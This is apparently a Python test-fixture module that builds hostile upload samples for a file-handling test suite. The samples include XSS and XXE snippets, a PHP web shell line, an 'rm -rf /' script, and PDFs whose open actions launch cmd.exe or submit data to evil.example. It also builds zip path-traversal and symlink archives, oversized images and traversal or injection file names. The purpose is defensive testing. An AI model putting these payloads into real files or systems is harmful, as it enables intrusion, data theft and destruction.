"""120 files and 150 names that mean harm: polyglots, scripts in disguise, bombs; names that lead away."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

import pikepdf
from PIL import Image

from tests.foundation.core import samples
from tests.foundation.core.workbooks import with_part

SCRIPTS = {
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "html": b"<!doctype html><script>alert(1)</script>",
    "js": b"alert(document.cookie)//",
    "xml": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>",
    "swf": b"CWS\x0a" + b"\0" * 40,
    "exe": b"MZ\x90\0" + b"\0" * 60,
    "elf": b"\x7fELF" + b"\0" * 60,
    "sh": b"#!/bin/sh\nrm -rf /\n",
    "php": b"<?php system($_GET['c']); ?>",
    "gif": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)",
    "rtf": rb"{\rtf1\object\objdata 0105}",
    "hta": b"<HTA:APPLICATION/><script>1</script>",
    "lnk": bytes.fromhex("4c0000000114020000000000c0000000000000460000"),
    "url": b"[InternetShortcut]\nURL=file://evil/share",
}
DISGUISES = ("", ".jpg", ".pdf", "\0.png", "\u202egpj.")
TAILS = (SCRIPTS["html"], SCRIPTS["svg"], b"PK\x03\x04", SCRIPTS["php"], b"\0" * 64)


def hostile_files() -> Iterator[tuple[str, bytes]]:
    """(name, content), 120 of them."""
    for ending, data in SCRIPTS.items():
        for disguise in DISGUISES[:4]:
            yield f"a.{ending}{disguise}", data
    for form, kind in (("JPEG", "jpg"), ("PNG", "png")):
        sound = samples.picture(form)
        for number, tail in enumerate(TAILS):
            yield f"尾{number}.{kind}", sound + tail
            yield f"头{number}.{kind}", tail + sound
        yield f"半.{kind}", sound[: len(sound) // 2]
        yield f"注.{kind}", _commented(form)
        yield f"大.{kind}.html", _absurd(form)
    for number, tail in enumerate(TAILS):
        yield f"尾{number}.pdf", samples.pdf() + tail
        yield f"头{number}.pdf", tail + samples.pdf()
    yield from ((f"动{number}.pdf", each) for number, each in enumerate(_active_pdfs()))
    yield from _archives()
    yield from _books()
    yield "像.mp4", samples.video()[:-30]
    yield "页.mp4", SCRIPTS["html"][:4] + b"ftyp" + SCRIPTS["html"]
    yield "空.pdf", b""
    yield "扫.tiff.jpg", b"II*\0" + b"\0" * 40
    yield "锁.pdf", _locked_pdf()


def _commented(form: str) -> bytes:
    target = io.BytesIO()
    image = Image.new("RGB", (8, 8), "white")
    if form == "JPEG":
        image.save(target, form, comment=SCRIPTS["html"])
    else:
        from PIL.PngImagePlugin import PngInfo

        told = PngInfo()
        told.add_text("Comment", SCRIPTS["html"].decode())
        image.save(target, form, pnginfo=told)
    return target.getvalue()


def _absurd(form: str) -> bytes:
    """A small file that claims to be 60,000 pixels wide and high."""
    data = bytearray(samples.picture(form))
    if form == "PNG":
        data[16:24] = (60_000).to_bytes(4, "big") * 2
    else:
        at = data.index(b"\xff\xc0") + 5
        data[at : at + 4] = (60_000).to_bytes(2, "big") * 2
    return bytes(data)


def _active_pdfs() -> Iterator[bytes]:
    """One per way in which a PDF acts by itself."""
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    send = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example/")
    for action in (script, launch, send):
        yield _pdf_with(OpenAction=action)
    yield _pdf_with(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[])))
    yield _pdf_with(Names=pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=[])))
    yield _pdf_with(AcroForm=pikepdf.Dictionary(XFA="x", Fields=[]))
    yield _pdf_with(AA=pikepdf.Dictionary(WC=script))


def _locked_pdf() -> bytes:
    document, target = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    document.save(target, encryption=pikepdf.Encryption(user="u", owner="o"))
    return target.getvalue()


def _pdf_with(**entries: pikepdf.Object) -> bytes:
    document, target = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    for key, value in entries.items():
        document.Root[f"/{key}"] = value
    document.save(target)
    return target.getvalue()


def _archives() -> Iterator[tuple[str, bytes]]:
    for number, name in enumerate(("../a.txt", "/etc/cron.d/a", "C:\\a.exe", "a\\..\\..\\b", "a/../../b")):
        yield f"包{number}.zip", _archive_of(zipfile.ZipInfo(name))
    link = zipfile.ZipInfo("link")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    yield "链.zip", _archive_of(link)
    yield "长.zip", _archive_of(zipfile.ZipInfo("长" * 300))
    yield "断.zip", samples.archive()[:-10]


def _archive_of(member: zipfile.ZipInfo) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(member, b"/etc/passwd")
    return target.getvalue()


def _books() -> Iterator[tuple[str, bytes]]:
    book = samples.book()
    yield "宏.xlsx", with_part(book, "xl/vbaProject.bin", b"x")
    yield "弹.xlsx", with_part(book, "xl/media/b.xml", b" " * 60 * 1024 * 1024)
    yield "实.xlsx", with_part(book, "xl/worksheets/sheet9.xml", b"<!DOCTYPE a><sheetData/>")
    yield "嵌.xlsx", with_part(book, "xl/embeddings/a.zip", b"x")


def hostile_names() -> list[str]:
    """150 names: ways out of the folder, drives, shares, devices, zero bytes, directions, lengths, forms of Unicode."""
    cores = ("a.pdf", "../../a.pdf", "CON.pdf", "a.pdf\0.html", "名册.pdf", "a.pdf;.html", "a\r\nSet-Cookie: x.pdf",
             '"a".pdf', "\u202efdp.a", "é.pdf", "e\u0301.pdf", "%2e%2e%2fa.pdf",
             "..", " .pdf", "a" * 400 + ".pdf")  # fmt: skip
    fronts = (
        "",
        "/",
        "//share/x/",
        "C:\\",
        "..\\..\\",
        "../" * 40,
        "\\\\?\\C:\\",
        "~/",
        "file:///etc/",
        "incoming/",
    )
    return [front + core for front in fronts for core in cores]
